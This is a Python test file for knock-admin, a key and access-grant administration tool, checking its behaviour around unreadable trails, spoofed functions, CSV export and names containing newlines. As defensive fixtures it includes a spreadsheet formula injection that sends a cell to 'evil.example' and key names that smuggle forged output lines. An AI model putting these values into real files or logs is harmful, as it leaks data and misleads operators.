"""What knock-admin does not believe: that nobody is in where it cannot look, nor what others in the account
have named.
"""

from __future__ import annotations

import csv
import io
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest

from knock_admin import adopt, many, stack
from knock_admin.errors import AdminError, UsageError
from tests.clients.admin_support import DOMAINS, STACK, World, client, make_world

world = pytest.fixture(make_world)

FORGED = "x\nbob (abc) is disabled already"


def key(world: World, name: str, targets: str = "bastion") -> str:
    """Make a key by other means than knock-admin, which would not take such a name."""
    tags = {"knock:targets": targets, "knock:max-duration": "8h"}
    made: str = world.gateway.create_api_key(name=name, enabled=True, tags=tags)["id"]
    plan = next(plan["id"] for plan in world.gateway.get_usage_plans()["items"] if plan["name"] == STACK)
    world.gateway.create_usage_plan_key(usagePlanId=plan, keyId=made, keyType="API_KEY")
    return made


def function(name: str, handler: str, stack: str = STACK) -> None:
    role = client("iam").create_role(RoleName="someone", AssumeRolePolicyDocument="{}")["Role"]["Arn"]
    code = io.BytesIO()
    with zipfile.ZipFile(code, "w") as archive:
        archive.writestr("x.py", "")
    client("lambda").create_function(
        FunctionName=name,
        Runtime="python3.13",
        Role=role,
        Handler=handler,
        Code={"ZipFile": code.getvalue()},
        Environment={"Variables": {"KNOCK_STACK": stack}},
    )


def ended(world: World) -> list[str]:
    """Let the revoke function end grants; gives the ids it was asked for."""
    asked: list[str] = []

    def revoke(payload: dict[str, Any]) -> dict[str, Any]:
        asked.append(payload["grant"]["grant_id"])
        return {"grant_id": asked[-1], "status": "revoked", "revoked": ["sgr-1"], "kept": []}

    world.functions["revoke"] = revoke
    return asked


def lose_trail(world: World) -> None:
    for domain in DOMAINS:
        world.sdb.delete_domain(DomainName=domain)


class TestATrailThatCannotBeRead:
    @pytest.mark.parametrize("command", ["rm", "disable"])
    def test_a_key_is_not_touched_when_nobody_could_be_ended(self, world: World, command: str) -> None:
        """Break it: read who is in after the key, or take an unknown for an empty list."""
        alice = key(world, "alice")
        lose_trail(world)
        ran = world.run("key", command, "alice", "--revoke")
        assert (ran.code, ran.out) == (1, "")
        assert "Nothing was changed: who is in by the key cannot be said" in ran.err
        assert world.gateway.get_api_key(apiKey=alice)["enabled"] is True

    @pytest.mark.parametrize("command", ["rm", "disable"])
    def test_a_trail_that_goes_away_in_between_ends_who_was_in_and_fails(
        self, world: World, command: str, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Break it: believe the second look alone."""
        asked, alice = ended(world), key(world, "alice")
        grant = world.record("alice", key=alice)
        monkeypatch.setattr("knock_admin.inside.of_keys_if_readable", lambda *_: None)
        ran = world.run("key", command, "alice", "--revoke")
        assert (ran.code, asked) == (1, [grant.id])
        assert f"is not known; `knock-admin revoke --principal {alice}` ends that later" in ran.err

    @pytest.mark.parametrize("command", ["rm", "disable"])
    def test_without_revoke_the_unknown_is_said(self, world: World, command: str) -> None:
        key(world, "alice")
        lose_trail(world)
        ran = world.ok("key", command, "alice")
        assert "Nobody is in" not in ran.err
        assert "Who is in by it now is not known; `knock-admin revoke --principal " in ran.err

    def test_why_does_not_count_what_it_cannot_read(self, world: World) -> None:
        """Break it: count an unknown as none."""
        key(world, "alice")
        lose_trail(world)
        ran = world.run("why", "alice", "--json")
        answers = {answer["what"]: answer["level"] for answer in ran.json["answers"]}
        assert ("live grants" in answers, answers["could not be asked"], ran.json["live"]) == (
            False,
            "warn",
            None,
        )
        assert "Who is in now is not known." in world.run("why", "alice").out


class TestFunctionsOfOthers:
    def test_a_function_that_says_to_be_of_the_stack_is_not_invoked(self, world: World) -> None:
        """Break it: take what carries KNOCK_STACK."""
        asked = ended(world)
        world.functions["evil"] = lambda _: {"status": "revoked", "revoked": ["sgr-1"], "kept": []}
        function("team-b-evil", "revoke.handler")
        grant = world.record("alice").id
        ran = world.ok("revoke", grant)
        assert asked == [grant]
        assert "team-b-evil: says to be of the stack knock, and is none of its functions" in ran.err

    def test_a_function_beside_the_stacks_own_sets_nothing(self, world: World) -> None:
        """Break it: read settings from every function, or take any module's name."""
        function(f"{STACK}-notify", "notify.handler")
        client("lambda").update_function_configuration(
            FunctionName=f"{STACK}-notify",
            Environment={"Variables": {"KNOCK_STACK": STACK, "TRAIL_DOMAIN": "evil", "TRAIL_STORE": "x"}},
        )
        function_list = client("lambda").list_functions()["Functions"]
        functions = {each["FunctionName"].split("-")[1]: each for each in reversed(function_list)}
        found = stack.Stack(None, STACK, functions)  # type: ignore[arg-type]  # it asks nothing
        assert (found.setting("TRAIL_DOMAIN"), found.store) == (DOMAINS[0], "simpledb")

    def test_no_stack_comes_of_a_name_in_an_environment(self, world: World) -> None:
        function("other", "api.handler", stack="other")
        world.ok("target", "ls")  # else it would ask which
        assert "there are: knock" in world.run("target", "ls", "--stack", "other").err

    def test_two_functions_for_one_module_are_an_error_that_names_them(self) -> None:
        listed = [
            {
                "FunctionName": "knock-api",
                "FunctionArn": f"arn:{number}",
                "Environment": {"Variables": {"KNOCK_STACK": "knock"}},
            }
            for number in range(2)
        ]

        class Lists:
            region = "eu-central-1"

            def pages(self, *_: object) -> list[dict[str, Any]]:
                return listed

        with pytest.raises(AdminError, match="two functions for api: arn:0 and arn:1"):
            stack.find(Lists(), None)  # type: ignore[arg-type]  # all it is asked for


class TestFilesOfValues:
    def test_a_name_is_no_formula_and_a_value_is_as_it_was(self, world: World, tmp_path: Path) -> None:
        """Break it: write the name as it is, or the value as a cell."""
        name = '=HYPERLINK("https://evil.example/?"&C2)'
        world.ok("target", "add", "bastion", "--ports", "22/tcp")
        key(world, name)
        world.ok("key", "rotate", "--all", "--values", str(tmp_path / "keys.csv"))
        rows = list(csv.reader((tmp_path / "keys.csv").open(encoding="utf-8")))
        assert rows[1][0] == f"'{name}"
        many._in_file(tmp_path / "two.csv")("bob", "id", "=value")
        assert (tmp_path / "two.csv").read_text().endswith("bob,id,=value\n")

    def test_a_line_that_a_full_disk_cut_off_takes_no_other_line_with_it(self, tmp_path: Path) -> None:
        """Break it: append as it is."""
        file = tmp_path / "keys.csv"
        file.touch(mode=0o600)
        file.write_text("name,id,value\ncarol,abc,HALF")
        keep = many._in_file(file)
        keep("dave", "def", "WHOLE")
        keep("erin", "ghi", "WHOLE")
        assert file.read_text() == "name,id,value\ncarol,abc,HALF\ndave,def,WHOLE\nerin,ghi,WHOLE\n"

    @pytest.mark.skipif(os.name != "posix", reason="files have no owner there")
    def test_a_file_of_somebody_else_is_refused(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Break it: look at the mode alone. For root, every file can be written."""
        (tmp_path / "keys.csv").touch(mode=0o600)
        mine = os.geteuid()
        monkeypatch.setattr(os, "geteuid", lambda: mine + 1)
        with pytest.raises(UsageError, match="another user's"):
            many._in_file(tmp_path / "keys.csv")

    def test_a_column_that_is_there_twice_is_refused(self, tmp_path: Path) -> None:
        file = tmp_path / "people.csv"
        file.write_text("name,targets,targets,max\ncarol,web,@all,8h\n")
        with pytest.raises(UsageError, match="names the column targets twice"):
            many.read(str(file))

    @pytest.mark.parametrize("command", [" ", "\t", "''"])
    def test_a_command_without_a_word_is_refused(self, command: str) -> None:
        with pytest.raises(UsageError, match="it names no command"):
            many._by_command(command)


class TestRenamedTargets:
    @pytest.mark.parametrize("opened", [True, False], ids=["open", "opening"])
    @pytest.mark.parametrize("command", ["release", "rm"])
    def test_who_is_in_by_the_old_name_is_ended(
        self, world: World, monkeypatch: pytest.MonkeyPatch, command: str, opened: bool
    ) -> None:
        """Break it: look for grants by the target's name alone."""
        monkeypatch.setattr(adopt, "FLIGHT", 0.0)
        asked = ended(world)
        if command == "release":
            group = world.make_group("mine")
            world.ok("target", "adopt", "bastion", group, "--ports", "22/tcp")
        else:
            group = world.ok("target", "add", "bastion", "--ports", "22/tcp", "--json").json["groups"][0]
        grant = world.record("alice", group=group, open_=opened).id
        world.record("bob", group="sg-0b", target="web")
        world.ok("target", "rename", "bastion", "gate")
        ran = world.run("target", command, "gate")
        assert (ran.code, f"{grant}  alice" in ran.err, "bob" in ran.err) == (1, True, False)
        world.ok("target", command, "gate", "--revoke")
        assert asked == [grant]


class TestNamesWithLines:
    @pytest.mark.parametrize("words", [["disable"], ["set", "--max", "1h"], ["enable"], ["rm"]])
    def test_a_keys_name_forges_no_line(self, world: World, words: list[str]) -> None:
        """Break it: print names as they are."""
        command, *rest = words
        made = key(world, FORGED)
        ran = world.ok("key", command, made, *rest)
        assert "\nbob" not in ran.out + ran.err
        assert f"x\\nbob (abc) is disabled already ({made})" in ran.out

    @pytest.mark.parametrize(
        "words", [["why", FORGED], ["key", "rotate", FORGED], ["key", "set", FORGED, "--add-targets", "a"]]
    )
    def test_nor_in_what_is_said_beside(self, world: World, words: list[str]) -> None:
        key(world, FORGED, targets="@all")
        ran = world.run(*words)
        assert "\nbob" not in ran.out + ran.err

    def test_no_line_of_a_result_is_two(self, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
        """Break it: print a result's lines with the line ends in them."""
        from knock_admin import key_commands
        from knock_admin.output import Result

        monkeypatch.setattr(key_commands, "show", lambda *_: Result({}, ["a\nb"], notes=["c\nd"]))
        ran = world.ok("key", "ls")
        assert (ran.out, ran.err) == ("a\\nb\n", "c\\nd\n")
